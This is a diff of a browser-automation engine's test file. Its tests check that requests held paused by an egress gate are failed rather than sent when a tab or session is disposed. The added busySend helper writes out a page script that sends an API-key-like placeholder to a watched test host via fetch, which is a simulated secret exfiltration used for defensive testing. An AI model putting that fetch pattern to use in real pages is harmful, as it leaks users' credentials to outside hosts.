@@ -3,7 +3,8 @@
 // context is disposed (the session ends, the engine stops driving the tab), though Chrome would send every request
 // Fetch still holds once Fetch is disabled.
 import { afterEach, describe, expect, it } from 'vitest';
-import type { CdpEvent } from '../../shared/engine/cdp.js';
+import type { Cdp, CdpEvent } from '../../shared/engine/cdp.js';
+import { createEngineExecutor } from '../../shared/engine/executor.js';
 import { evaluate } from '../../shared/engine/ops/eval.js';
 import { PageContext } from '../../shared/engine/page-context.js';
 import { loadUrl } from '../support/browser.js';
@@ -32,10 +33,21 @@ async function openPage(): Promise<PageContext> {
   return page;
 }
 
+/**
+ * A script that sends the page's key to the watched site at `path` from a timer, then keeps the page's thread busy: the
+ * tab tells the request's initiator only seconds later, and until then the engine waits to judge it, paused
+ * (egress-trail.ts). The page sets `window[done]` once the fetch settled.
+ */
+function busySend(path: string, done: string): string {
+  return `setTimeout(() => { fetch('${engine.watched.origin}${path}?key=' + encodeURIComponent(${KEY}),
+    { mode: 'no-cors' }).catch(() => undefined).finally(() => (window.${done} = true));
+    const busy = Date.now() + 3000; while (Date.now() < busy); }, 300); 0`;
+}
+
 /** Resolves with the first Fetch.requestPaused of the tab whose URL holds `path`. */
-function pausedAt(page: PageContext, path: string): Promise<CdpEvent> {
+function pausedAt(cdp: Cdp, path: string): Promise<CdpEvent> {
   return new Promise((resolve) => {
-    const off = page.cdp.on((event) => {
+    const off = cdp.on((event) => {
       if (event.method !== 'Fetch.requestPaused') return;
       if (!String((event.params['request'] as { url: string }).url).includes(path)) return;
       off();
@@ -47,18 +59,8 @@ function pausedAt(page: PageContext, path: string): Promise<CdpEvent> {
 describe('as the engine lets go of a tab', () => {
   it("fails, not sends, a script's request paused while its initiator is not told yet", async () => {
     const page = await openPage();
-    // The page's thread stays busy after the fetch, so the tab tells the request's initiator only seconds later: until
-    // then the engine waits to judge it, paused (egress-trail.ts).
-    await evaluate(
-      page,
-      {
-        expression: `setTimeout(() => { fetch('${engine.watched.origin}/disposed?key=' + encodeURIComponent(${KEY}),
-          { mode: 'no-cors' }).catch(() => undefined).finally(() => (window.disposedDone = true));
-          const busy = Date.now() + 3000; while (Date.now() < busy); }, 300); 0`,
-      },
-      ctx,
-    );
-    await pausedAt(page, '/disposed');
+    await evaluate(page, { expression: busySend('/disposed', 'disposedDone') }, ctx);
+    await pausedAt(page.cdp, '/disposed');
     const failed = page.dispose();
     opened = undefined;
     await untilMarker(page, 'disposedDone');
@@ -70,6 +72,25 @@ describe('as the engine lets go of a tab', () => {
         url: `${engine.watched.origin}/disposed?key=API%20key%20sk_live_Late_Page_Key_5521`,
         kind: 'XHR',
       },
+    ]);
+  });
+
+  it('fails, not sends, what a tab held paused as the engine session ends, and answers what it failed', async () => {
+    const executor = createEngineExecutor(suite.browser.host, { tag: 'td', policy: () => gate.current() });
+    const url = suite.server.url('egress-late.html?session');
+    await executor.run('tab_new', { url }, ctx);
+    const tabId = (await suite.browser.host.list()).find((tab) => tab.url === url)!.id;
+    const cdp = await suite.browser.host.cdp(tabId);
+    await executor.run('eval', { expression: busySend('/session-end', 'endDone') }, ctx);
+    await pausedAt(cdp, '/session-end');
+    const failed = executor.dispose();
+    // A context of the tab's own, as the next session's: it sends nothing to the tab until asked to.
+    const probe = new PageContext(cdp, gate);
+    opened = probe;
+    await untilMarker(probe, 'endDone');
+    expect(await reachedSite(probe, engine.watched)).toEqual([]);
+    expect((await failed).map((send) => send.url.replace(engine.watched.origin, 'W'))).toEqual([
+      'W/session-end?key=API%20key%20sk_live_Late_Page_Key_5521',
     ]);
   });
 });
